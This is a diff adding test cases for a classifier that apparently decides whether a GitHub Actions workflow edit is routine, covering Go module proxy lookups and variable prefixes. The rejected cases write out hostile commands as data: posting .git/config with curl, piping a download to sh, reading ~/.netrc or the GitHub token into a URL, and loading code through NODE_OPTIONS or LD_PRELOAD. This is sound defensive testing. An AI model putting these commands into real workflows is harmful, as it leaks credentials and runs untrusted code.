@@ -135,6 +135,37 @@ describe('a permissions block tightened beside a command edit (trusted-routine)'
   });
 });
 
+describe('a release step that asks the Go module proxy for the new version (trusted-routine)', () => {
+  const wf = (steps: string[]) =>
+    ['name: release', 'on:', '  push:', "    tags: ['v*']", 'permissions:', '  contents: write', 'jobs:', '  release:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: goreleaser/goreleaser-action@v6', '        with:', '          args: release --clean', '        env:', '          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}', ...steps, ''].join('\n');
+  const step = (run: string[]) => ['      - name: Refresh pkg.go.dev', '        run: |', ...run.map((line) => `          ${line}`)];
+  const base = wf([]);
+  it('reads a GET of proxy.golang.org or sum.golang.org for the repository and tag, and constant echoes, as running nothing new', () => {
+    expect(editsOnlyCommands(base, wf(step(['echo "Asking the module proxy for the new release"', 'curl -sSf "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY,,}/@v/${GITHUB_REF_NAME}.info"'])), 'workflow')).toBe(true);
+    expect(editsOnlyCommands(base, wf(step(['curl --silent --fail https://sum.golang.org/lookup/github.com/${{ github.repository }}@${{ github.ref_name }}'])), 'workflow')).toBe(true);
+  });
+  it('does not for another host, data sent, a file written, a pipe to a shell, another expansion or a workflow command echoed', () => {
+    const no = (run: string[]) => expect(editsOnlyCommands(base, wf(step(run)), 'workflow')).toBe(false);
+    no(['curl -sSf "https://proxy.golang.example/github.com/${GITHUB_REPOSITORY}/@v/${GITHUB_REF_NAME}.info"']);
+    no(['curl -sSf -d @.git/config "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY}/@v/${GITHUB_REF_NAME}.info"']);
+    no(['curl -sSfo tool "https://proxy.golang.org/github.com/acme/tool/@v/v1.0.0.zip"']);
+    no(['curl -sSf "https://proxy.golang.org/github.com/acme/tool/@v/list" | sh']);
+    no(['curl -sSf "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY}/@v/$(cat ~/.netrc).info"']);
+    no(['curl -sSf "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY}/@v/${{ secrets.GITHUB_TOKEN }}.info"']);
+    no(['curl -sSf "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY}/@v/${TAG}.info"']);
+    no(['echo "::add-mask::x"', 'echo "::stop-commands::t"']);
+  });
+});
+
+describe('a leading assignment of a variable that loads code (trusted-routine)', () => {
+  const wf = (steps: string[]) => ['name: ci', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm test', ...steps, ''].join('\n');
+  it('keeps it with the command: NODE_OPTIONS or LD_PRELOAD before a known command is a new command; CI=true is not', () => {
+    expect(editsOnlyCommands(wf([]), wf(['      - run: CI=true npm test']), 'workflow')).toBe(true);
+    expect(editsOnlyCommands(wf([]), wf(['      - run: NODE_OPTIONS=--require=./scripts/hook.js npm test']), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(wf([]), wf(['      - run: LD_PRELOAD=./build/libx.so npm test']), 'workflow')).toBe(false);
+  });
+});
+
 describe('a new workflow step that only writes constant lines to GITHUB_ENV / GITHUB_OUTPUT (trusted-routine)', () => {
   const wf = (steps: string[]) =>
     ['name: ci', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', '        python: ["3.13", "3.14", "3.14t"]', '    steps:', '      - uses: actions/checkout@v4', '      - run: python -m nox -s test', ...steps, ''].join('\n');
